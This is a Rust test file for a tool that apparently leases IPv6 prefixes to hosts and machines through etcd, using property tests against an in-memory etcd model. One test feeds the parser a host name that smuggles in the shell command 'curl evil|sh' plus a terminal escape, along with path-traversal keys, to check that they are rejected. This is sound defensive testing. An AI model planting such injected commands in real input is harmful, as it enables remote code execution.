//! Hosts against an etcd in memory: whatever they do, and in whatever order, no prefix and no name is there twice.

use std::collections::{BTreeMap, BTreeSet};

use proptest::prelude::*;

use super::*;
use crate::pool::{Leases, Pool};

/// etcd, as far as transactions go.
#[derive(Debug, Clone, Default)]
struct Store {
    revision: u64,
    pairs: BTreeMap<String, (u64, String)>,
}

impl Store {
    fn view(&self) -> View {
        let pairs: Vec<Value> = self
            .pairs
            .iter()
            .map(|(key, (revision, value))| {
                serde_json::json!({"key": STANDARD.encode(key), "value": STANDARD.encode(value), "mod_revision": revision})
            })
            .collect();
        let answer =
            serde_json::json!({"header": {"cluster_id": 7, "revision": self.revision}, "kvs": pairs});
        View::read(&answer.to_string()).unwrap()
    }

    fn change(&mut self, generation: u64, ops: &[Op]) -> bool {
        let is_same = self.pairs.get(GENERATION).map_or(0, |(revision, _)| *revision) == generation;
        let is_free = |op: &Op| !matches!(op, Op::Create { key, .. } if self.pairs.contains_key(key));
        if !is_same || !ops.iter().all(is_free) {
            return false;
        }
        self.revision += 1;
        let mut put =
            |key: &str, value: &str| self.pairs.insert(key.to_owned(), (self.revision, value.to_owned()));
        put(GENERATION, "x");
        for op in ops {
            match op {
                Op::Create { key, value } | Op::Put { key, value } => drop(put(key, value)),
                Op::Delete { .. } => {}
            }
        }
        for op in ops {
            if let Op::Delete { key } = op {
                self.pairs.remove(key);
            }
        }
        true
    }
}

fn host(number: usize) -> Wanted {
    let pool: Prefix = "2001:db8:a::/56".parse().unwrap();
    Wanted {
        id: format!("{number:016x}"),
        name: format!("host-{number}"),
        own: pool.subnet(number as u64).unwrap(),
        pool,
        machines: Machines::new(),
    }
}

/// A host, with its own leases, as it saw etcd at last.
struct Node {
    wanted: Wanted,
    leases: Leases,
    seen: View,
    /// It goes by what was seen before.
    hastes: bool,
}

impl Node {
    fn new(number: usize) -> Node {
        Node { wanted: host(number), leases: Leases::default(), seen: View::default(), hastes: number == 1 }
    }

    /// What a create leases by what was seen.
    fn choose(&mut self, name: &MachineName) -> Option<Lease> {
        let mut elsewhere = self.seen.elsewhere(&self.wanted.id);
        elsewhere.push((Lease::Subnet(self.wanted.own), "itself".into()));
        self.leases.share(elsewhere, self.seen.resting());
        self.leases.lease(Pool::Fixed(self.wanted.pool), name, None).ok()
    }

    fn create(&mut self, store: &mut Store, name: &MachineName) {
        let before = self.leases.clone();
        let Some(lease) = self.choose(name) else { return };
        let mut wanted = self.wanted.clone();
        wanted.machines.insert(name.clone(), Some(lease));
        // What was seen may be old: then it is refused.
        let view = if self.hastes { self.seen.clone() } else { store.view() };
        let (ops, conflicts) = agree(&view, &wanted, false, 0);
        if conflicts.is_empty() && store.change(view.generation, &ops) {
            self.wanted = wanted;
        } else {
            self.leases = before;
        }
    }

    fn remove(&mut self, store: &mut Store, name: &MachineName, reaches: bool) {
        self.wanted.machines.remove(name);
        self.leases.release(name);
        if reaches {
            let view = store.view();
            let (ops, _) = agree(&view, &self.wanted, true, view.revision);
            store.change(view.generation, &ops);
        }
    }
}

fn name(number: usize) -> MachineName {
    format!("m{number}").parse().unwrap()
}

proptest! {
    #[test]
    fn nothing_is_there_twice(deeds in proptest::collection::vec((0usize..3, 0usize..8, 0u8..10), 1..120)) {
        let (mut store, mut nodes) = (Store::default(), [Node::new(0), Node::new(1), Node::new(2)]);
        for node in &nodes {
            let view = store.view();
            prop_assert!(store.change(view.generation, &agree(&view, &node.wanted, true, 0).0));
        }
        for (number, machine, deed) in deeds {
            let node = &mut nodes[number];
            match deed {
                // What was seen may be old.
                0 | 1 => node.seen = store.view(),
                2..7 => node.create(&mut store, &name(machine)),
                7 | 8 => node.remove(&mut store, &name(machine), true),
                _ => node.remove(&mut store, &name(machine), false),
            }
            let (mut names, mut leases) = (BTreeSet::new(), Vec::<Lease>::new());
            for node in &nodes {
                for (name, lease) in &node.wanted.machines {
                    prop_assert!(names.insert(name.clone()), "{name} is there twice");
                    let lease = lease.unwrap();
                    prop_assert!(!leases.iter().any(|other| other.overlaps(lease)), "{lease} is there twice");
                    leases.push(lease);
                }
            }
        }
        // All reach it in the end, and it knows what they have and nothing else.
        for node in &nodes {
            let view = store.view();
            let (ops, conflicts) = agree(&view, &node.wanted, true, 9);
            prop_assert!(conflicts.is_empty(), "{conflicts:?}");
            prop_assert!(store.change(view.generation, &ops));
        }
        let view = store.view();
        for node in &nodes {
            prop_assert!(Differences::of(&view, &node.wanted, &Memory::default()).is_none());
        }
        let all: usize = nodes.iter().map(|node| node.wanted.machines.len()).sum();
        prop_assert_eq!(view.machines.len(), all);
        prop_assert_eq!(view.leases.len(), all + 3);
        prop_assert!(view.resting.keys().all(|rested| !view.leases.keys().any(|lease| lease.overlaps(*rested))));
    }

    #[test]
    fn whatever_etcd_says_is_read(text in "\\PC{0,200}", key in "\\PC{0,40}", value in "\\PC{0,40}") {
        let _ = View::read(&text);
        let pair = serde_json::json!({"key": STANDARD.encode(format!("/nsctl/{key}")), "value": STANDARD.encode(value), "mod_revision": 1});
        let _ = View::read(&serde_json::json!({"header": {"cluster_id": 1, "revision": 1}, "kvs": [pair]}).to_string());
    }
}

#[test]
fn one_that_joins_says_all_at_once() {
    let mut wanted = host(1);
    wanted.machines.insert(name(1), Some("2001:db8:a:7::/64".parse().unwrap()));
    wanted.machines.insert(name(2), None);
    let (ops, conflicts) = agree(&View::default(), &wanted, true, 5);
    assert_eq!(conflicts, []);
    insta::assert_snapshot!(script(4, &ops, 0xfeed));
}

#[test]
fn what_another_has_is_told_in_words() {
    let mut store = Store::default();
    let mut first = host(0);
    first.machines.insert(name(1), Some("2001:db8:a:8::/61".parse().unwrap()));
    assert!(store.change(0, &agree(&store.view(), &first, false, 0).0));
    let mut second = host(1);
    second.machines.insert(name(1), None);
    second.machines.insert(name(2), Some("2001:db8:a:9::/64".parse().unwrap()));
    second.own = first.own;
    let told: Vec<String> =
        agree(&store.view(), &second, false, 0).1.iter().map(ToString::to_string).collect();
    let wanted = [
        "2001:db8:a::/64 is leased to the host host-0 itself",
        "there is a machine named 'm1' on host-0",
        "2001:db8:a:8::/61 is leased to 'm1' on host-0",
    ];
    assert_eq!(told, wanted);
    second.pool = "2001:db8:b::/56".parse().unwrap();
    let told = agree(&store.view(), &second, false, 0).1;
    assert_eq!(told[0].to_string(), "the hosts there share 2001:db8:a::/56, not 2001:db8:b::/56");
}

#[test]
fn what_is_remembered_is_read_again() {
    let mut memory = Memory::default();
    let machines: Machines = [(name(1), Some("2001:db8:a:7::/64".parse().unwrap())), (name(2), None)].into();
    let knows = |memory: &Memory| machines.iter().all(|(name, lease)| memory.knows(name, *lease));
    assert!(!knows(&memory) && !memory.is(&machines));
    memory.agree(machines.iter());
    let me = host(1).id;
    let mut view = View { cluster: u64::MAX, revision: 9, epoch: 2, ..View::default() };
    view.hosts.insert(host(1).id, Host { name: "one".into(), own: host(1).own, epoch: 1 });
    view.hosts.insert(host(2).id, Host { name: "two".into(), own: host(2).own, epoch: 2 });
    for (name, lease) in &machines {
        view.machines.insert(name.clone(), Holding { host: me.clone(), lease: *lease });
    }
    memory.saw(&view);
    let again = Memory::parse(Some(&memory.render()));
    assert!(again == Memory::parse(Some(&again.render())) && knows(&again) && again.is(&machines));
    // Who gives up a lease needs nobody.
    assert!(again.knows(&name(1), None) && !again.knows(&name(2), "2001:db8:a:7::/64".parse().ok()));
    assert!(again.is_ahead_of(&View { revision: 8, ..view.clone() }, &me));
    assert!(again.is_ahead_of(&View { cluster: 1, revision: 10, ..view.clone() }, &me));
    assert!(!again.is_ahead_of(&view, &me));
    // It was overtaken since, and what is this host's is not there.
    let lease = view.machines.remove(&name(1));
    assert!(again.is_ahead_of(&View { revision: 99, ..view.clone() }, &me));
    view.machines.extend(lease.map(|holding| (name(1), holding)));
    // One that is behind, and one that etcd has forgotten.
    assert_eq!(again.silent(&view), ["one"]);
    view.hosts.remove(&host(2).id);
    assert_eq!(again.silent(&view), ["one", "two"]);
    view.gone.insert(host(2).id);
    assert_eq!(again.silent(&view), ["one"]);
    let mut gives_up = again.clone();
    gives_up.give_up(&[(name(2), None)].into());
    assert!(!gives_up.knows(&name(1), None) && gives_up.knows(&name(2), None) && gives_up.may_have_more);
    for damaged in ["", "version = 2", "\0", "version = 1\nmood = 3"] {
        assert!(Memory::parse(Some(damaged)).may_have_more, "{damaged}");
    }
}

#[test]
fn what_others_write_is_not_believed() {
    let view = |key: &str, value: &str| {
        let pair = serde_json::json!({"key": STANDARD.encode(format!("/nsctl/{key}")), "value": STANDARD.encode(value), "mod_revision": 1});
        View::read(
            &serde_json::json!({"header": {"cluster_id": 1, "revision": 1}, "kvs": [pair]}).to_string(),
        )
    };
    let evil = r#"{"name":"x; curl evil|sh\u001b[2J","own":"2001:db8:a:1::/64","epoch":1}"#;
    assert_eq!(
        view("hosts/00000000000000ff", evil).unwrap().hosts["00000000000000ff"].name,
        "00000000000000ff"
    );
    for (key, value) in [
        ("hosts/../../x", evil),
        ("machines/../x", r#"{"host":"a","lease":null}"#),
        ("epoch", "18446744073709551615"),
        ("leases/::/0", r#"{"host":"a","machine":null}"#),
        ("strange", "x"),
    ] {
        assert!(view(key, value).is_err(), "{key}");
    }
    // What rests in two pieces of one another cannot be.
    let mut leases = Leases::default();
    let rests = |text: &str| Resting { lease: text.parse().unwrap(), machine: None };
    leases.share(Vec::new(), vec![rests("2001:db8:a:10::/60"), rests("2001:db8:a:11::/64")]);
    assert_eq!(leases.resting().len(), 1);
}
